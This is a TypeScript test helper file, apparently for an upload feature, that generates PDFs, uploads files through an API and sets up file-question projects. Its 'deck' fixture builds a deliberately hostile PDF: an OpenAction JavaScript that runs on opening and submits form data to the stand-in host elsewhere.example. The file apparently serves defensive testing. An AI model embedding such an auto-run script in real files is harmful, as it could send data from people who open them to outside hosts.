// oxlint-disable-next-line import/no-named-as-default -- its types know the default alone
import PDFDocument from 'pdfkit';
import { publishedProject, type Visitor } from '#test/journey.ts';

type Build = (document: PDFKit.PDFDocument) => void;

/** A real PDF file of what is put on its pages. */
export async function pdfOf(
  build: Build,
  options: PDFKit.PDFDocumentOptions = {},
): Promise<Uint8Array<ArrayBuffer>> {
  const document = new PDFDocument({ size: 'A4', ...options });
  const chunks: Buffer[] = [];
  const ended = new Promise((resolve) => {
    document.on('data', (chunk: Buffer) => chunks.push(chunk));
    document.on('end', resolve);
  });
  build(document);
  document.end();
  await ended;
  return new Uint8Array(Buffer.concat(chunks));
}

/** Pages with a heading each, and with what a hostile file would add: a script that runs on opening, and a link elsewhere. */
export const deck: Build = (document) => {
  for (const words of ['Harbour plan', 'The market in Europe', 'Our team']) {
    if (words !== 'Harbour plan') document.addPage();
    document.fontSize(40).text(words, 60, 60, { link: 'http://elsewhere.example/' });
    document.rect(60, 200, 300, 300).fill('#205040').fillColor('black');
  }
  const script = 'app.alert("run"); this.submitForm("http://elsewhere.example/");';
  const { _root: root } = document as unknown as { _root: { data: Record<string, unknown> } };
  const action = document.ref({ Type: 'Action', S: 'JavaScript', JS: new String(script) });
  action.end('');
  root.data['OpenAction'] = action;
};

/** Uploads what an answer will name; returns its id. */
export async function upload(
  url: string,
  token: string,
  file: { name: string; content: BlobPart },
): Promise<string> {
  const form = new FormData();
  form.append('file', new Blob([file.content], { type: 'application/octet-stream' }), file.name);
  const reply = await fetch(`${url}/v3/files`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: form,
  });
  const { data } = (await reply.json()) as { data: { _id: string } };
  return data._id;
}

/** An open project that asks for files alone. */
export async function aFileProject(owner: Visitor, name: string) {
  const project = await publishedProject(owner, { name, organisation: `${name} Fund` }, [
    {
      screen: 'Files',
      type: 'file',
      label: 'Your files',
      required: true,
      limits: { maxFiles: 10 },
    },
  ]);
  return { ...project, questionId: project.questions[0]?._id ?? '' };
}
